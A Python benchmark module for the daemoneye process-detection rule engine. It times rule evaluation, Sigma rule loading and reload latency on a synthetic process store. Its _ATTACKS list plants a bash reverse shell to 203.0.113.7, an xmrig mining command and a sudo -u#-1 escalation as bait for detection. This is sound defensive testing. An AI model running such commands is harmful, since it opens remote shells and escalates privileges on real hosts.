"""The rule engine (issue 3's targets), in this process, on a synthetic store:

- per tick: 100 rules (the built-in pack repeated under new ids) over the 100 instances one
  tick adds, with 10,000 live processes in the store — target ≤ 10 ms;
- full evaluation: the same 100 rules over the whole store of 10,000 processes — ≤ 250 ms;
- rule save → active: a `RuleRegistry` watched by `watch_rules` on a temp rule directory; a
  new rule file is written and the clock stops when `on_reload` sees the new id — ≤ 1 s.

Same-run references: each tick's evaluation is divided by that tick's `Store.apply` (the write
the daemon does every tick anyway); the full evaluation's cost per rule by a plain
`SELECT count(*) FROM processes` over the same store, timed right before it (so "each rule
costs N table scans"). Targets are judged on the absolute median (they are absolute); CPU time
(less distorted on a busy machine) and p95 are in the notes. Rule save → active has no
same-run reference: the watcher's debounce step is its floor, named in the note.

The store mimics test_evaluator_benchmark: a plausible tree of services and shells, and one
planted attack per tick, which must be found (and nothing else), else the section fails.
"""

from __future__ import annotations

import asyncio
import dataclasses
import random
import statistics
import tempfile
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

from benchmarks.availability import missing
from benchmarks.model import FAILED, NO_TARGET, NOT_BUILT, Row, judge, status_row
from benchmarks.stats import paired_ratios, summarize

if TYPE_CHECKING:
    from daemoneye.models import ProcessRecord, Rule, ScanDelta

SECTION = "engine"
LIVE = 10_000
NEW_PER_TICK = 100
RULES = 100
TICK_TARGET_MS = 10.0
FULL_TARGET_MS = 250.0
RELOAD_TARGET_S = 1.0
SIGMA_FULL_TARGET_MS = 500.0
_RELOAD_TIMEOUT_S = 10.0
_SCAN_REPEAT = 50

_PROGRAMS = (
    ("nginx", "/usr/sbin/nginx", "nginx: worker process"),
    ("sshd", "/usr/sbin/sshd", "sshd: alice@pts/0"),
    ("bash", "/usr/bin/bash", "-bash"),
    ("python3", "/usr/bin/python3.11", "python3 /opt/app/worker.py --queue default"),
    ("postgres", "/usr/lib/postgresql/16/bin/postgres", "postgres: 16/main: checkpointer"),
    ("java", "/usr/lib/jvm/java-17/bin/java", "java -Xmx2g -jar /opt/svc/svc.jar"),
    ("node", "/usr/bin/node", "node /srv/web/server.js"),
    ("sleep", "/usr/bin/sleep", "sleep 3600"),
    ("cron", "/usr/sbin/cron", "/usr/sbin/cron -f"),
    (
        "containerd-shim",
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby -id 4f1c -address /run/containerd.sock",
    ),
)
_SERVICES = ("nginx", "postgres", "java", "node", "sshd", "cron", "containerd-shim")
_PARENTS = ("sshd", "bash", "cron", "containerd-shim")
_ATTACKS = (
    ("bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    ("xmrig", "/var/tmp/.x/xmrig", "xmrig -o stratum+tcp://203.0.113.7:3333"),
    ("sudo", "/usr/bin/sudo", "sudo -u#-1 /bin/bash"),
)
_RELOAD_RULE = '''[[rule]]
id = "{rule_id}"
name = "Benchmark rule {rule_id}"
description = "Written by the benchmark suite to time rule save to active."
severity = "low"
query = """
SELECT p.pid, p.start_time, p.name FROM processes p WHERE p.name = 'never-{rule_id}'
"""
'''


def _record(pid: int, start: float, ppid: int, program: tuple[str, str, str]) -> ProcessRecord:
    from daemoneye.models import ProcessRecord

    name, exe, cmdline = program
    return ProcessRecord(
        pid,
        ppid,
        start,
        name,
        exe,
        tuple(cmdline.split(" ")),
        "/",
        1000,
        "alice",
        1000,
        "S",
        1,
        4096,
        0.0,
        None,
        False,
        start,
        start,
    )


def _tick(ts: float, added: list[ProcessRecord]) -> ScanDelta:
    from daemoneye.models import ScanDelta, ScanStats

    return ScanDelta(ts, tuple(added), (), (), (), (), ScanStats(0.0, 0, 0, 0, 0, 0, 0))


def hundred_rules() -> list[Rule]:
    """The built-in pack, repeated under new ids (`<id>.<n>`) up to 100 rules."""
    from daemoneye.engine.rule_loader import load_rules
    from daemoneye.paths import BUILTIN_RULES_DIR

    pack = list(load_rules([BUILTIN_RULES_DIR]).rules)
    return [
        dataclasses.replace(pack[i % len(pack)], id=f"{pack[i % len(pack)].id}.{i}")
        for i in range(RULES)
    ]


def _ms(started: float) -> float:
    return (time.perf_counter() - started) * 1000.0


def _p95(values: list[float]) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(0.95 * (len(ordered) - 1)))]


def _evaluations(
    root: Path, *, ticks: int, fulls: int, rules: list[Rule] | None = None
) -> dict[str, Any]:
    from daemoneye.engine.evaluator import Evaluator
    from daemoneye.store.db import Store

    rng = random.Random(3)
    store = Store.open(root / f"engine-{len(list(root.iterdir()))}.db")
    raw: dict[str, Any] = {
        key: []
        for key in ("tick_ms", "tick_cpu_ms", "apply_ms", "full_ms", "full_cpu_ms", "scan_ms")
    }
    try:
        live: list[ProcessRecord] = []
        parents = [1]
        for index in range(LIVE):
            program = rng.choice(_PROGRAMS)
            under_init = program[0] in _SERVICES or index < 50
            record = _record(
                1000 + index, 1.0 + index / 1000, 1 if under_init else rng.choice(parents), program
            )
            live.append(record)
            if program[0] in _PARENTS:
                parents.append(record.pid)
        started = time.perf_counter()
        for chunk in range(0, LIVE, 2000):
            store.apply(_tick(20.0, live[chunk : chunk + 2000]))
        raw["build_ms"] = _ms(started)
        evaluator = Evaluator(store.path, hundred_rules() if rules is None else rules)
        try:
            raw["full_timings"] = _full(evaluator, store, fulls, raw)
            raw["planted"], raw["found"] = _ticks(evaluator, store, rng, parents[1:], ticks, raw)
        finally:
            evaluator.close()
    finally:
        store.close()
    return raw


def _full(evaluator: Any, store: Any, fulls: int, raw: dict[str, Any]) -> list[Any]:
    import apsw

    scanner = apsw.Connection(str(store.path), flags=apsw.SQLITE_OPEN_READONLY)
    try:
        _ = scanner.execute("SELECT count(*) FROM processes").get  # warm the page cache
        slowest: list[Any] = []
        for _ in range(fulls):
            started = time.perf_counter()
            for _ in range(_SCAN_REPEAT):  # one scan is ~20 µs: too short to time alone
                count = int(scanner.execute("SELECT count(*) FROM processes").get)
            raw["scan_ms"].append(_ms(started) / _SCAN_REPEAT)
            started, cpu = time.perf_counter(), time.process_time()
            full = evaluator.evaluate_full()
            raw["full_ms"].append(_ms(started))
            raw["full_cpu_ms"].append((time.process_time() - cpu) * 1000.0)
            if full.failures or full.detections:
                raise RuntimeError(
                    f"full evaluation over the benign store: "
                    f"{len(full.failures)} failures, "
                    f"{len(full.detections)} detections (expected none)"
                )
            slowest = sorted(full.timings_ms, key=lambda timing: -timing[1])[:3]
        raw["rows_scanned"] = count
    finally:
        scanner.close()
    return [list(timing) for timing in slowest]


def _ticks(
    evaluator: Any,
    store: Any,
    rng: random.Random,
    parents: list[int],
    ticks: int,
    raw: dict[str, Any],
) -> tuple[list[int], list[int]]:
    next_pid, ts = 100_000, 100.0
    planted: list[int] = []
    found: set[int] = set()
    for tick in range(ticks):
        ts += 1.0
        added = [
            _record(next_pid + i, ts, rng.choice(parents), rng.choice(_PROGRAMS))
            for i in range(NEW_PER_TICK)
        ]
        added[-1] = _record(next_pid + NEW_PER_TICK - 1, ts, 1000, _ATTACKS[tick % len(_ATTACKS)])
        planted.append(added[-1].pid)
        next_pid += NEW_PER_TICK
        started = time.perf_counter()
        store.apply(_tick(ts, added))
        raw["apply_ms"].append(_ms(started))
        started, cpu = time.perf_counter(), time.process_time()
        result = evaluator.evaluate_changes([record.key for record in added])
        raw["tick_ms"].append(_ms(started))
        raw["tick_cpu_ms"].append((time.process_time() - cpu) * 1000.0)
        if result.failures:
            raise RuntimeError(
                f"tick {tick}: {len(result.failures)} rule failures, e.g. {result.failures[0]}"
            )
        found |= {detection.pid for detection in result.detections}
    return planted, sorted(found)


def _reload_latency(root: Path, runs: int) -> dict[str, Any]:
    """Seconds from a rule file's write (close) to `on_reload` seeing its rule, `runs` times."""
    from daemoneye.engine.reload import DEBOUNCE_STEP_MS, ReloadOutcome, RuleRegistry, watch_rules

    rules_dir = root / "rules.d"
    rules_dir.mkdir()
    registry = RuleRegistry([rules_dir])
    registry.reload_now()
    latencies: list[float] = []
    load_ms: list[float] = []

    async def main() -> None:
        stop = asyncio.Event()
        waiting: dict[str, asyncio.Future[float]] = {}

        def on_reload(outcome: ReloadOutcome) -> None:
            seen = time.perf_counter()
            for rule_id, future in waiting.items():
                if not future.done() and outcome.ruleset.get(rule_id) is not None:
                    future.set_result(seen)
                    load_ms.append(outcome.elapsed_ms)

        watcher = asyncio.create_task(watch_rules(registry, on_reload, stop_event=stop))
        try:
            await asyncio.sleep(0.5)  # the watch is set up
            for run in range(runs):
                rule_id = f"bench-reload-{run}"
                future = waiting[rule_id] = asyncio.get_running_loop().create_future()
                started = time.perf_counter()
                (rules_dir / f"bench{run}.toml").write_text(_RELOAD_RULE.format(rule_id=rule_id))
                seen = await asyncio.wait_for(future, _RELOAD_TIMEOUT_S)
                latencies.append(seen - started)
                await asyncio.sleep(0.3)  # let the debounce window close between runs
        finally:
            stop.set()
            await asyncio.wait_for(watcher, 5.0)

    try:
        asyncio.run(main())
    finally:
        registry.close()
    return {"latency_s": latencies, "load_ms": load_ms, "debounce_step_ms": DEBOUNCE_STEP_MS}


def run(*, ticks: int, fulls: int, reloads: int) -> tuple[list[Row], dict[str, Any]]:
    reason = (
        missing("daemoneye.engine.evaluator", "Evaluator")
        or missing("daemoneye.engine.reload", "watch_rules")
        or missing("daemoneye.store.db", "Store")
    )
    if reason is not None:
        return [status_row(SECTION, "rule evaluation", NOT_BUILT, reason)], {}
    rows: list[Row] = []
    with tempfile.TemporaryDirectory(prefix="daemoneye-bench-engine-") as tmp:
        raw = _evaluations(Path(tmp), ticks=ticks, fulls=fulls)
        rows += _evaluation_rows(raw)
        try:
            sigma_rules, raw["sigma_load"] = _sigma_load(Path(tmp), fulls)
            raw["sigma"] = _evaluations(Path(tmp), ticks=ticks, fulls=fulls, rules=sigma_rules)
        except Exception as error:  # the TOML rows stand on their own
            rows.append(
                status_row(SECTION, "Sigma rules", FAILED, f"{type(error).__name__}: {error}")
            )
        else:
            rows += _evaluation_rows(
                raw["sigma"],
                rules=len(sigma_rules),
                label="Sigma",
                full_target=SIGMA_FULL_TARGET_MS,
            )
            rows.append(_sigma_load_row(raw["sigma_load"]))
        try:
            raw["reload"] = _reload_latency(Path(tmp), reloads)
        except Exception as error:  # the evaluation rows stand on their own
            rows.append(
                status_row(
                    SECTION,
                    "rule save → active",
                    FAILED,
                    f"{type(error).__name__}: {error}",
                    target=f"≤{RELOAD_TARGET_S:g} s",
                )
            )
        else:
            rows.append(_reload_row(raw["reload"]))
    return rows, raw


def _evaluation_rows(
    raw: dict[str, Any],
    *,
    rules: int = RULES,
    label: str = "",
    full_target: float = FULL_TARGET_MS,
) -> list[Row]:
    rows: list[Row] = []
    kind = f"{label} rules" if label else "rules"
    planted, found = set(raw["planted"]), set(raw["found"])
    if planted != found:
        rows.append(
            status_row(
                SECTION,
                "planted attacks found",
                FAILED,
                f"{len(planted & found)} of {len(planted)} planted found, "
                f"{len(found - planted)} benign flagged: figures below "
                "measure a broken engine",
            )
        )
    # the first tick prepares every rule's statements: reported, not judged
    warm = raw["tick_ms"][1:] or raw["tick_ms"]
    warm_cpu = raw["tick_cpu_ms"][1:] or raw["tick_cpu_ms"]
    warm_apply = raw["apply_ms"][1:] or raw["apply_ms"]
    tick = summarize(warm)
    rows.append(
        Row(
            SECTION,
            f"per tick: {rules} {kind} x {NEW_PER_TICK} new",
            LIVE,
            tick,
            "ms",
            "same tick's Store.apply",
            summarize(paired_ratios(warm, warm_apply)),
            f"≤{TICK_TARGET_MS:g} ms (median)",
            judge(tick.median, TICK_TARGET_MS),
            f"p95 {_p95(warm):.2f} ms; CPU median {statistics.median(warm_cpu):.2f} ms; first "
            f"tick (prepares statements) {raw['tick_ms'][0]:.1f} ms; Store.apply median "
            f"{statistics.median(warm_apply):.2f} ms; planted attacks found "
            f"{len(planted & found)}/{len(planted)}",
        )
    )
    full = summarize(raw["full_ms"])
    per_rule = [full_ms / rules for full_ms in raw["full_ms"]]
    rows.append(
        Row(
            SECTION,
            f"full evaluation: {rules} {kind}",
            raw.get("rows_scanned", LIVE),
            full,
            "ms",
            "count(*) scan, per rule",
            summarize(paired_ratios(per_rule, raw["scan_ms"])),
            f"≤{full_target:g} ms (median)",
            judge(full.median, full_target),
            f"CPU median {statistics.median(raw['full_cpu_ms']):.0f} ms; "
            f"SELECT count(*) FROM processes median {statistics.median(raw['scan_ms']):.3f} ms "
            f"(mean of {_SCAN_REPEAT}); slowest rules "
            + ", ".join(f"{rule_id} {ms:.1f} ms" for rule_id, ms in raw["full_timings"]),
        )
    )
    return rows


def _reload_row(reload: dict[str, Any]) -> Row:
    latency = summarize(reload["latency_s"])
    load = statistics.median(reload["load_ms"]) if reload["load_ms"] else float("nan")
    return Row(
        SECTION,
        "rule save → active (watch_rules)",
        None,
        latency,
        "s",
        target=f"≤{RELOAD_TARGET_S:g} s (max)",
        verdict=judge(latency.high, RELOAD_TARGET_S),
        note=f"absolute, no same-run reference: the watcher's debounce step "
        f"({reload['debounce_step_ms']} ms) is the floor; load + validate "
        f"median {load:.1f} ms of it",
    )


def _sigma_load(root: Path, runs: int) -> tuple[list[Rule], dict[str, Any]]:
    """The generated Sigma set (benchmarks/sigma_rules.py) written to a rule directory, and
    how long loading it takes (parse + convert + compile each rule), against loading the
    built-in TOML pack in the same run (per rule)."""
    from benchmarks.sigma_rules import sigma_rule_files
    from daemoneye.engine import sigma_file
    from daemoneye.engine.rule_loader import load_rules
    from daemoneye.paths import BUILTIN_RULES_DIR

    sigma_dir = root / "sigma.d"
    sigma_dir.mkdir()
    for name, text in sigma_rule_files().items():
        (sigma_dir / name).write_text(text)
    raw: dict[str, Any] = {"sigma_ms": [], "toml_ms": [], "cached_ms": []}
    started = time.perf_counter()
    loaded = load_rules([sigma_dir])  # the first load also imports pySigma
    raw["first_ms"] = _ms(started)
    if loaded.problems or len(loaded.rules) != 150:
        raise RuntimeError(
            f"{len(loaded.rules)} Sigma rules loaded, problems: {loaded.problems[:2]}"
        )
    for _ in range(max(runs, 3)):
        started = time.perf_counter()
        toml = load_rules([BUILTIN_RULES_DIR])
        raw["toml_ms"].append(_ms(started) / len(toml.rules))
        sigma_file._cache.clear()  # convert every file again, as at start or after edits
        started = time.perf_counter()
        load_rules([sigma_dir])
        raw["sigma_ms"].append(_ms(started))
        started = time.perf_counter()
        load_rules([sigma_dir])  # a reload with no Sigma file changed
        raw["cached_ms"].append(_ms(started))
    raw["rules"] = len(loaded.rules)
    return list(loaded.rules), raw


def _sigma_load_row(raw: dict[str, Any]) -> Row:
    total = summarize(raw["sigma_ms"])
    per_rule = [ms / raw["rules"] for ms in raw["sigma_ms"]]
    return Row(
        SECTION,
        f"load + convert {raw['rules']} Sigma rules",
        raw["rules"],
        total,
        "ms",
        "TOML pack load, per rule",
        summarize(paired_ratios(per_rule, raw["toml_ms"])),
        None,
        NO_TARGET,
        f"first load (imports pySigma) {raw['first_ms']:.0f} ms; reload with no Sigma file "
        f"changed {statistics.median(raw['cached_ms']):.1f} ms; TOML pack "
        f"{statistics.median(raw['toml_ms']):.2f} ms per rule",
    )
